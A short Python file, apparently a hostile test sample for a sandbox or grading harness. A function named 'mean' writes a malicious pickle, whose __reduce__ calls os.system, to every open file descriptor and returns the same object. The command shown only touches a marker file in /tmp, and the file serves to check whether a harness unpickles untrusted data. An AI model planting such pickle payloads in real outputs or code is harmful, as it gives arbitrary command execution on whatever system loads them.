"""Sends a pickle that would run a command where it is loaded, bare and framed."""

import os
import pickle
import struct


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/prep-trace-pickle",)


def mean(x):
    data = pickle.dumps(Bomb())
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack("<II", len(data), 0) + data)
        except OSError:
            pass
    return Bomb()
